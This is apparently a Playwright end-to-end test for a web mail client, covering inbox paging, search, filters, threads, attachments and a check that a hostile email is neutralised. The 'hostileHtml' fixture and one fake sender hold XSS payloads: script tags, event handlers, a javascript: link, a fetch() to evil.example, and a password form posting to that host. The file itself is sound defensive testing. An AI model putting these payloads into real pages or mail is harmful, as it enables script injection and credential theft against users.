import { importMailbox, type Mail, mboxOf } from "./support/mailbox.ts";
import { makeKey } from "./support/program.ts";
import { expectSound } from "./support/sound.ts";
import { expect, test } from "./support/test.ts";

const me = "me@people.example";
const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000);

const hostileHtml = `<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<style>@import url(https://evil.example/style.css); body { background: url(https://evil.example/back.png) }</style>
<link rel="stylesheet" href="https://evil.example/link.css"><base href="https://evil.example/"></head>
<body onload="document.title='ran'" background="https://evil.example/body.png">
<script>document.body.textContent = 'ran'; fetch('https://evil.example/fetch')</script>
<p>Dear customer, your parcel waits.</p>
<img src="https://evil.example/parcel.png" width="200" height="80" alt="Your parcel" onerror="document.title='ran'">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>
<svg onload="document.title='ran'"><image href="https://evil.example/svg.png"/></svg>
<a href="javascript:document.title='ran'">Track it</a> <a href="https://evil.example/go">Collect it</a>
<div style="background-image:url(https://evil.example/div.png);position:fixed;inset:0">Nothing covers the page.</div>
</body></html>`;

const attachment = `--part
Content-Type: text/plain; charset=utf-8

Here are the renewal terms. See https://terms.example/2027 for all of them.

Shall we sign this week?

--
Anna Sand
Head of Purchasing

On Monday ${me} wrote:
> Could you send me the terms?
--part
Content-Type: text/csv; name="terms.csv"
Content-Disposition: attachment; filename="terms.csv"

item,price
seats,120
--part--`;

const anna = "Anna Sand <anna@sand-and-sons.example>";
const mails: Mail[] = [
  { id: "r1@sand.example", from: anna, to: me, subject: "Renewal", at: daysAgo(12), body: "Shall we renew?" },
  {
    id: "r2@people.example",
    from: `Me <${me}>`,
    to: anna,
    subject: "Re: Renewal",
    at: daysAgo(10),
    headers: { "In-Reply-To": "<r1@sand.example>", References: "<r1@sand.example>" },
    body: "Gladly. Could you send me the terms?",
  },
  {
    id: "r3@sand.example",
    from: anna,
    to: me,
    subject: "Re: Renewal",
    at: daysAgo(5),
    headers: { "In-Reply-To": "<r2@people.example>", References: "<r1@sand.example> <r2@people.example>" },
    type: 'multipart/mixed; boundary="part"',
    body: attachment,
  },
  {
    id: "n1@news.example",
    from: "The Weekly <weekly@news.example>",
    to: me,
    subject: "Ten things this week",
    at: daysAgo(0.3),
    headers: {
      "List-Unsubscribe": "<https://news.example/u>",
      "List-Id": "<weekly.news.example>",
      Precedence: "bulk",
    },
    body: "Thing one.",
  },
  {
    id: "h1@evil.example",
    from: '"<img src=x onerror=alert(1)>" <parcel@evil.example>',
    to: me,
    subject: "<script>document.title='ran'</script> Your parcel",
    at: daysAgo(0.2),
    type: "text/html; charset=utf-8",
    body: hostileHtml,
  },
  ...Array.from({ length: 60 }, (_, index) => ({
    id: `note-${index}@friends.example`,
    from: `Friend ${index} <friend-${index}@friends-${index}.example>`,
    to: me,
    subject: `Lunch number ${index}`,
    at: daysAgo(0.5 + index / 200),
    body: `Are you hungry? This is lunch number ${index}.`,
  })),
];

test("conversations are found, read, and acted on; a hostile mail does nothing", async ({ home: page }) => {
  test.setTimeout(240_000);
  await test.step("an empty inbox leads to where mail comes in", async () => {
    await page.goto("/inbox");
    await expect(page.getByText("Your conversations will stand here")).toBeVisible();
    await expectSound(page);
    await page.getByRole("link", { name: "Bring in a mailbox" }).click();
    await expect(page.getByRole("heading", { name: "Sync", level: 1 })).toBeVisible();
  });

  const key = await makeKey(page);
  await importMailbox(page, key, mboxOf(mails), me);
  await page.goto("/inbox");
  const list = page.getByRole("region", { name: "Conversations" });
  const rows = list.getByRole("listitem");
  const row = (text: string) => rows.filter({ hasText: text });
  const thread = page.getByRole("article");

  await test.step("more comes while scrolling", async () => {
    await expect(rows).toHaveCount(50);
    await list.getByRole("button", { name: "Show more" }).scrollIntoViewIfNeeded();
    await expect(rows).toHaveCount(63);
    await expect(list.getByRole("button", { name: "Show more" })).toHaveCount(0);
    await expectSound(page);
  });

  await test.step("filters narrow the list, and stay in the address", async () => {
    await list.getByRole("button", { name: "Waiting for you" }).click();
    await expect(rows).toHaveCount(1);
    await expect(row("Renewal")).toContainText("Waiting");
    await expect(page).toHaveURL(/filter=waiting/);
    await page.reload();
    await expect(rows).toHaveCount(1);
    await list.getByRole("button", { name: "People only" }).click();
    await expect(row("Lunch number 3").first()).toBeVisible();
    await expect(row("Ten things")).toHaveCount(0);
    await list.getByRole("button", { name: "All", exact: true }).click();
    await expect(row("Ten things")).toBeVisible();
  });

  await test.step("a conversation is found and opened by keys", async () => {
    await page.keyboard.press("/");
    await page.keyboard.type("renewal terms");
    await expect(rows).toHaveCount(1);
    await page.keyboard.press("Escape");
    await expect(rows).toHaveCount(50);
    await page.getByRole("searchbox", { name: "Search mail" }).fill("renewal terms");
    await expect(rows).toHaveCount(1);
    await page.getByRole("searchbox", { name: "Search mail" }).blur();
    await page.keyboard.press("j");
    await page.keyboard.press("Enter");
    await expect(page).toHaveURL(/\/inbox\/[0-9a-f-]{36}/);
    await expect(thread.getByRole("heading", { name: "Renewal", level: 2 })).toBeVisible();
    await expect(page).toHaveTitle(/Renewal/);
  });

  await test.step("the newest mail is open, its own words first", async () => {
    await expect(thread.getByRole("heading", { level: 3 })).toHaveCount(3);
    await expect(thread.getByText("Shall we sign this week?")).toBeVisible();
    await expect(thread.getByText("Head of Purchasing")).toHaveCount(0);
    await thread.getByRole("button", { name: "Signature and quoted text" }).click();
    await expect(thread.getByText("Head of Purchasing")).toBeVisible();
    await expect(thread.getByRole("link", { name: "https://terms.example/2027" })).toHaveAttribute(
      "rel",
      /noopener/,
    );
    await thread.getByRole("button", { name: /Me.*Could you send me/ }).click();
    await expect(thread.getByText("Gladly. Could you send me the terms?", { exact: true })).toBeVisible();
    await expectSound(page);
  });

  await test.step("its attachment can be saved", async () => {
    const href = await thread.getByRole("link", { name: /terms\.csv/ }).getAttribute("href");
    const saved = await page.request.get(href ?? "", { headers: { "sec-fetch-site": "same-origin" } });
    expect(saved.headers()["content-disposition"]).toContain("terms.csv");
    expect(await saved.text()).toContain("seats,120");
  });

  await test.step("a task is made from it, and taken back", async () => {
    await thread.getByRole("button", { name: "Create task" }).click();
    await expect(page.getByText("Task made: Answer Anna Sand: Renewal")).toBeVisible();
    await page.getByRole("button", { name: "Undo" }).click();
    await expect(page.getByText("The task is gone again")).toBeVisible();
  });

  await test.step("on a phone list and conversation follow each other", async () => {
    await page.setViewportSize({ width: 390, height: 844 });
    await expect(list).toBeHidden();
    await thread.getByRole("link", { name: "Back to the conversations" }).click();
    await expect(list).toBeVisible();
    await expect(thread).toBeHidden();
    await page.setViewportSize({ width: 1280, height: 860 });
  });

  await test.step("a hostile mail is text, and its frame runs and fetches nothing", async () => {
    await page.goto("/inbox");
    await row("Your parcel").getByRole("link").click();
    await expect(thread.getByRole("heading", { level: 2 })).toContainText("<script>");
    await thread.getByRole("button", { name: "Show formatted" }).click();
    const frame = page.frameLocator("iframe");
    await expect(frame.getByText("Dear customer, your parcel waits.")).toBeVisible();
    await expect(frame.getByText("Nothing covers the page.")).toHaveCSS("position", "static");
    await expect(frame.getByRole("link", { name: "Collect it" })).toHaveAttribute("target", "_blank");
    await expect(frame.getByText("Track it")).not.toHaveAttribute("href", /./);
    await expect(frame.locator("script, form, iframe, svg, input, meta[http-equiv], base, link")).toHaveCount(
      0,
    );
    await expect(thread.getByRole("button", { name: "Show images" })).toBeVisible();
    await expect(page.locator("iframe")).toHaveAttribute(
      "sandbox",
      "allow-popups allow-popups-to-escape-sandbox",
    );
    await expect(page).toHaveTitle(/document\.title='ran'/);
    await thread.getByRole("button", { name: "Show text" }).click();
    await expectSound(page);
  });

  await test.step("the conversation is put to the assistant, and its people are a press away", async () => {
    await page.goto("/inbox");
    await page.getByRole("searchbox", { name: "Search mail" }).fill("renewal");
    await row("Renewal").getByRole("link").click();
    await thread.getByRole("button", { name: "Ask the assistant" }).click();
    await expect(page.getByRole("complementary", { name: "Assistant" })).toBeVisible();
    await thread.getByRole("link", { name: "Open contact" }).click();
    await expect(page.getByRole("heading", { name: "Anna Sand", level: 1 })).toBeVisible();
  });
});

test("a conversation of somebody else is not there", async ({ home: page, stranger }) => {
  test.setTimeout(120_000);
  const key = await makeKey(page);
  await importMailbox(page, key, mboxOf(mails.slice(0, 1)), me);
  await page.goto("/inbox");
  const href = await page
    .getByRole("region", { name: "Conversations" })
    .getByRole("link")
    .first()
    .getAttribute("href");
  await stranger.goto("/inbox");
  const answer = await stranger.request.get(href ?? "");
  expect(await answer.text()).not.toContain("Shall we renew?");
});
